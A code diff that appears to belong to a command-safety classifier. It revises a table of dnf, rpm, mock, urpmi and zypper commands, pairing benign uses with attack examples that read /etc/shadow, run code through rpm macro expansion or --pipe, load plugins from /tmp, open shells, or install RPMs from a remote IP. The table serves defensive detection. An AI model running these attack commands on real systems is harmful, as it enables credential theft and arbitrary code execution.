@@ -2,244 +2,212 @@ import type { ExampleTable } from './example.ts'
 
 export const redHatPackages: ExampleTable = {
   createrepo: {
-    use: 'createrepo repo -o out.txt → write out.txt',
+    use: 'createrepo -o out repo → unpack out',
     attack: [
-      'createrepo repo -o /etc/cron.d/job → write /etc/cron.d/job',
-      'createrepo repo -g /etc/shadow → read /etc/shadow',
+      'createrepo -o /etc/cron.d repo → unpack /etc/cron.d',
+      'createrepo -g /etc/shadow repo → read /etc/shadow',
     ],
   },
   dnf: {
-    use: 'dnf -c app.conf → read app.conf',
+    use: 'dnf -c dnf.conf list → read dnf.conf',
     attack: [
-      'dnf -c /etc/shadow → read /etc/shadow',
-      'dnf --pluginpath=/tmp/x.so → load /tmp/x.so',
+      'dnf -c /tmp/dnf.conf list → run /tmp/dnf.conf',
+      'dnf --setopt=pluginpath=/tmp/lib list → load /tmp/lib',
     ],
   },
   'dnf autoremove': {
-    use: 'dnf autoremove -c app.conf → read app.conf',
-    attack: 'dnf autoremove -c /etc/shadow → read /etc/shadow',
+    use: 'dnf autoremove → nothing',
+    attack: 'dnf autoremove --setopt=pluginpath=/tmp/lib → load /tmp/lib',
   },
   'dnf builddep': {
-    use: 'dnf builddep demo → install dnf builddep',
-    attack: 'dnf builddep demo -c /etc/shadow → read /etc/shadow; install dnf builddep',
+    use: 'dnf builddep app.spec → install dnf builddep',
+    attack: 'dnf builddep app.spec -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf builddep',
   },
   'dnf check-update': {
-    use: 'dnf check-update -c app.conf → read app.conf',
-    attack: 'dnf check-update -c /etc/shadow → read /etc/shadow',
+    use: 'dnf check-update → nothing',
+    attack: 'dnf check-update -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf clean': {
-    use: 'dnf clean -c app.conf → read app.conf',
-    attack: 'dnf clean -c /etc/shadow → read /etc/shadow',
+    use: 'dnf clean all → nothing',
+    attack: 'dnf clean all -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf config-manager': {
-    use: 'dnf config-manager -c app.conf → read app.conf',
-    attack: 'dnf config-manager -c /etc/shadow → read /etc/shadow',
+    use: 'dnf config-manager --add-repo https://example.org/x.repo → fetch https://example.org/x.repo',
+    attack: 'dnf config-manager -c /tmp/dnf.conf --set-enabled crb → run /tmp/dnf.conf',
   },
   'dnf copr': {
-    use: 'dnf copr -c app.conf → read app.conf',
-    attack: 'dnf copr -c /etc/shadow → read /etc/shadow',
+    use: 'dnf copr enable ann/tools → nothing',
+    attack: 'dnf copr enable ann/tools -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf distro-sync': {
     use: 'dnf distro-sync → install dnf distro-sync',
-    attack: 'dnf distro-sync -c /etc/shadow → read /etc/shadow; install dnf distro-sync',
+    attack: 'dnf distro-sync -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf distro-sync',
   },
   'dnf download': {
-    use: 'dnf download demo → fetch dnf download',
-    attack: 'dnf download demo -c /etc/shadow → read /etc/shadow; fetch dnf download',
+    use: 'dnf download vim → fetch dnf download',
+    attack: 'dnf download vim -c /tmp/dnf.conf → run /tmp/dnf.conf; fetch dnf download',
   },
   'dnf erase': {
-    use: 'dnf erase -c app.conf → read app.conf',
-    attack: 'dnf erase -c /etc/shadow → read /etc/shadow',
+    use: 'dnf erase nano → nothing',
+    attack: 'dnf erase nano -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf group': {
-    use: 'dnf group -c app.conf → read app.conf',
-    attack: 'dnf group -c /etc/shadow → read /etc/shadow',
+    use: 'dnf group list → nothing',
+    attack: 'dnf group list -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf groupinstall': {
-    use: 'dnf groupinstall dev → install dnf groupinstall',
-    attack: 'dnf groupinstall dev -c /etc/shadow → read /etc/shadow; install dnf groupinstall',
+    use: `dnf groupinstall 'Development Tools' → install dnf groupinstall`,
+    attack: `dnf groupinstall 'Development Tools' -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf groupinstall`,
   },
   'dnf history': {
-    use: 'dnf history -c app.conf → read app.conf',
-    attack: 'dnf history -c /etc/shadow → read /etc/shadow',
+    use: 'dnf history → nothing',
+    attack: 'dnf history -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf info': {
-    use: 'dnf info -c app.conf → read app.conf',
-    attack: 'dnf info -c /etc/shadow → read /etc/shadow',
+    use: 'dnf info vim → nothing',
+    attack: 'dnf info vim -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf install': {
-    use: 'dnf install demo → install dnf install',
-    attack: 'dnf install demo -c /etc/shadow → read /etc/shadow; install dnf install',
+    use: 'dnf install vim → install dnf install',
+    attack: [
+      'dnf install http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install dnf install',
+      'dnf install vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf install',
+    ],
   },
   'dnf list': {
-    use: 'dnf list -c app.conf → read app.conf',
-    attack: 'dnf list -c /etc/shadow → read /etc/shadow',
+    use: 'dnf list → nothing',
+    attack: 'dnf list -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf localinstall': {
-    use: 'dnf localinstall demo → install dnf localinstall',
-    attack: 'dnf localinstall demo -c /etc/shadow → read /etc/shadow; install dnf localinstall',
+    use: 'dnf localinstall app.rpm → install dnf localinstall',
+    attack:
+      'dnf localinstall http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install dnf localinstall',
   },
   'dnf makecache': {
-    use: 'dnf makecache -c app.conf → read app.conf',
-    attack: 'dnf makecache -c /etc/shadow → read /etc/shadow',
+    use: 'dnf makecache → nothing',
+    attack: 'dnf makecache -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf module': {
-    use: 'dnf module -c app.conf → read app.conf',
-    attack: 'dnf module -c /etc/shadow → read /etc/shadow',
+    use: 'dnf module list → nothing',
+    attack: 'dnf module list -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf provides': {
-    use: 'dnf provides -c app.conf → read app.conf',
-    attack: 'dnf provides -c /etc/shadow → read /etc/shadow',
+    use: 'dnf provides /usr/bin/vim → nothing',
+    attack: 'dnf provides /usr/bin/vim -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf reinstall': {
-    use: 'dnf reinstall demo → install dnf reinstall',
-    attack: 'dnf reinstall demo -c /etc/shadow → read /etc/shadow; install dnf reinstall',
+    use: 'dnf reinstall vim → install dnf reinstall',
+    attack: 'dnf reinstall vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf reinstall',
   },
   'dnf remove': {
-    use: 'dnf remove -c app.conf → read app.conf',
-    attack: 'dnf remove -c /etc/shadow → read /etc/shadow',
+    use: 'dnf remove nano → nothing',
+    attack: 'dnf remove nano -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf repolist': {
-    use: 'dnf repolist -c app.conf → read app.conf',
-    attack: 'dnf repolist -c /etc/shadow → read /etc/shadow',
+    use: 'dnf repolist → nothing',
+    attack: 'dnf repolist -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf repoquery': {
-    use: 'dnf repoquery -c app.conf → read app.conf',
-    attack: 'dnf repoquery -c /etc/shadow → read /etc/shadow',
+    use: 'dnf repoquery --whatrequires vim → nothing',
+    attack: 'dnf repoquery -c /tmp/dnf.conf vim → run /tmp/dnf.conf',
   },
   'dnf search': {
-    use: 'dnf search -c app.conf → read app.conf',
-    attack: 'dnf search -c /etc/shadow → read /etc/shadow',
+    use: 'dnf search vim → nothing',
+    attack: 'dnf search vim -c /tmp/dnf.conf → run /tmp/dnf.conf',
   },
   'dnf shell': {
-    use: 'dnf shell main.txt → read main.txt',
+    use: 'dnf shell commands.txt → read commands.txt',
     attack: 'dnf shell /etc/shadow → read /etc/shadow',
   },
   'dnf swap': {
-    use: 'dnf swap a b → install dnf swap',
-    attack: 'dnf swap a b -c /etc/shadow → read /etc/shadow; install dnf swap',
+    use: 'dnf swap nano vim → install dnf swap',
+    attack: 'dnf swap nano vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf swap',
   },
   'dnf update': {
-    use: 'dnf update demo → install dnf update',
-    attack: 'dnf update demo -c /etc/shadow → read /etc/shadow; install dnf update',
+    use: 'dnf update vim → install dnf update',
+    attack: 'dnf update vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf update',
   },
   'dnf upgrade': {
-    use: 'dnf upgrade demo → install dnf upgrade',
-    attack: 'dnf upgrade demo -c /etc/shadow → read /etc/shadow; install dnf upgrade',
+    use: 'dnf upgrade vim → install dnf upgrade',
+    attack: 'dnf upgrade vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf upgrade',
   },
   mock: {
-    use: `mock --chroot='cat notes.txt' → read notes.txt`,
-    attack: [
-      `mock --chroot='cat /etc/shadow' → read /etc/shadow`,
-      'mock --chroot=/bin/sh → shell sh',
-    ],
+    use: `mock -r fedora-40-x86_64 --chroot 'cat notes.txt' → read notes.txt`,
+    attack: ['mock -r fedora-40-x86_64 --shell → shell mock', 'mock --chroot=/bin/sh → shell sh'],
   },
   repoquery: {
-    use: 'repoquery -c app.conf → read app.conf',
-    attack: [
-      'repoquery -c /etc/shadow → read /etc/shadow',
-      'repoquery --pluginpath=/tmp/x.so → load /tmp/x.so',
-    ],
+    use: 'repoquery --installed vim → nothing',
+    attack: 'repoquery -c /tmp/dnf.conf vim → run /tmp/dnf.conf',
   },
   reposync: {
-    use: 'reposync → fetch reposync',
-    attack: [
-      'reposync -c /etc/shadow → read /etc/shadow; fetch reposync',
-      'reposync --pluginpath=/tmp/x.so → load /tmp/x.so; fetch reposync',
-    ],
+    use: 'reposync --repoid=baseos → fetch reposync',
+    attack: 'reposync -c /tmp/dnf.conf → run /tmp/dnf.conf; fetch reposync',
   },
   rpm: {
-    use: 'rpm demo.deb → read demo.deb',
-    attack: [
-      `rpm demo.deb -E '%(/tmp/x)' → run /tmp/x; read demo.deb`,
-      'rpm demo.deb --pipe=/tmp/x → run /tmp/x; read demo.deb',
-    ],
+    use: 'rpm -i app.rpm → install rpm; read app.rpm',
+    attack: [`rpm -E '%(/tmp/x)' → run /tmp/x`, 'rpm -qa --pipe=/tmp/x → run /tmp/x'],
   },
-  rpm2archive: {
-    use: 'rpm2archive notes.txt → read notes.txt',
-    attack: 'rpm2archive /etc/shadow → read /etc/shadow',
-  },
-  rpm2cpio: {
-    use: 'rpm2cpio notes.txt → read notes.txt',
-    attack: 'rpm2cpio /etc/shadow → read /etc/shadow',
-  },
+  rpm2archive: { use: 'rpm2archive app.rpm → read app.rpm' },
+  rpm2cpio: { use: 'rpm2cpio app.rpm → read app.rpm' },
   rpmbuild: {
-    use: 'rpmbuild notes.txt → read notes.txt',
+    use: 'rpmbuild -bb app.spec → read app.spec',
     attack: [
-      'rpmbuild /etc/shadow → read /etc/shadow',
-      `rpmbuild notes.txt -E '%(/tmp/x)' → run /tmp/x; read notes.txt`,
+      'rpmbuild -bb /etc/shadow → read /etc/shadow',
+      `rpmbuild -bb app.spec -D 'x %(/tmp/x)' → run /tmp/x; read app.spec`,
     ],
   },
-  rpmdb: {
-    use: 'rpmdb → nothing',
-    attack: [`rpmdb -E '%(/tmp/x)' → run /tmp/x`, 'rpmdb --pipe=/tmp/x → run /tmp/x'],
-  },
+  rpmdb: { use: 'rpmdb --rebuilddb → nothing', attack: `rpmdb -E '%(/tmp/x)' → run /tmp/x` },
   rpmkeys: {
-    use: 'rpmkeys notes.txt → read notes.txt',
-    attack: [
-      'rpmkeys /etc/shadow → read /etc/shadow',
-      `rpmkeys notes.txt -E '%(/tmp/x)' → run /tmp/x; read notes.txt`,
-    ],
+    use: 'rpmkeys --import key.asc → read key.asc',
+    attack: `rpmkeys -E '%(/tmp/x)' → run /tmp/x`,
   },
   rpmquery: {
-    use: 'rpmquery → nothing',
-    attack: [`rpmquery -E '%(/tmp/x)' → run /tmp/x`, 'rpmquery --pipe=/tmp/x → run /tmp/x'],
+    use: 'rpmquery -a → nothing',
+    attack: [`rpmquery -E '%(/tmp/x)' → run /tmp/x`, 'rpmquery -a --pipe=/tmp/x → run /tmp/x'],
   },
   rpmsign: {
-    use: 'rpmsign notes.txt → read notes.txt',
+    use: 'rpmsign --addsign app.rpm → read app.rpm',
     attack: [
-      'rpmsign /etc/shadow → read /etc/shadow',
-      `rpmsign notes.txt -E '%(/tmp/x)' → run /tmp/x; read notes.txt`,
+      `rpmsign --define '__gpg /tmp/x' --addsign app.rpm → run /tmp/x; read app.rpm`,
+      `rpmsign -E '%(/tmp/x)' → run /tmp/x`,
     ],
   },
   rpmspec: {
-    use: 'rpmspec notes.txt → read notes.txt',
+    use: 'rpmspec -P app.spec → read app.spec',
     attack: [
-      'rpmspec /etc/shadow → read /etc/shadow',
-      `rpmspec notes.txt -E '%(/tmp/x)' → run /tmp/x; read notes.txt`,
+      'rpmspec -P /etc/shadow → read /etc/shadow',
+      `rpmspec -P app.spec -D 'x %(/tmp/x)' → run /tmp/x; read app.spec`,
     ],
   },
-  rpmverify: {
-    use: 'rpmverify → nothing',
-    attack: [`rpmverify -E '%(/tmp/x)' → run /tmp/x`, 'rpmverify --pipe=/tmp/x → run /tmp/x'],
-  },
+  rpmverify: { use: 'rpmverify vim → nothing', attack: `rpmverify -E '%(/tmp/x)' → run /tmp/x` },
   spectool: {
-    use: 'spectool notes.txt → read notes.txt',
+    use: 'spectool -g app.spec → read app.spec',
     attack: 'spectool /etc/shadow → read /etc/shadow',
   },
   urpmi: {
-    use: 'urpmi demo → install urpmi',
+    use: 'urpmi vim → install urpmi',
+    attack: 'urpmi http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install urpmi',
   },
   'yum-config-manager': {
-    use: 'yum-config-manager -c app.conf → read app.conf',
-    attack: [
-      'yum-config-manager -c /etc/shadow → read /etc/shadow',
-      'yum-config-manager --pluginpath=/tmp/x.so → load /tmp/x.so',
-    ],
+    use: 'yum-config-manager --add-repo https://example.org/x.repo → fetch https://example.org/x.repo',
+    attack: 'yum-config-manager -c /tmp/yum.conf --enable crb → run /tmp/yum.conf',
   },
   yumdownloader: {
-    use: 'yumdownloader → fetch yumdownloader',
-    attack: [
-      'yumdownloader -c /etc/shadow → read /etc/shadow; fetch yumdownloader',
-      'yumdownloader --pluginpath=/tmp/x.so → load /tmp/x.so; fetch yumdownloader',
+    use: 'yumdownloader vim → fetch yumdownloader',
+    attack: 'yumdownloader -c /tmp/yum.conf vim → run /tmp/yum.conf; fetch yumdownloader',
+  },
+  zypper: { use: 'zypper -c zypper.conf refresh → read zypper.conf' },
+  'zypper addrepo': {
+    use: [
+      'zypper addrepo https://example.org/tools tools → fetch https://example.org/tools',
+      'zypper addrepo -r tools.repo → read tools.repo',
     ],
   },
-  zypper: {
-    use: 'zypper -c app.conf → read app.conf',
-    attack: 'zypper -c /etc/shadow → read /etc/shadow',
-  },
-  'zypper addrepo': {
-    use: 'zypper addrepo https://example.org/x demo → fetch https://example.org/x',
-    attack:
-      'zypper addrepo https://example.org/x demo -r /etc/shadow → read /etc/shadow; fetch https://example.org/x',
-  },
-  'zypper dist-upgrade': {
-    use: 'zypper dist-upgrade → install zypper dist-upgrade',
-  },
+  'zypper dist-upgrade': { use: 'zypper dist-upgrade → install zypper dist-upgrade' },
   'zypper install': {
-    use: 'zypper install demo → install zypper install',
+    use: 'zypper install vim → install zypper install',
+    attack:
+      'zypper install http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install zypper install',
   },
-  'zypper update': {
-    use: 'zypper update demo → install zypper update',
-  },
+  'zypper update': { use: 'zypper update vim → install zypper update' },
 }
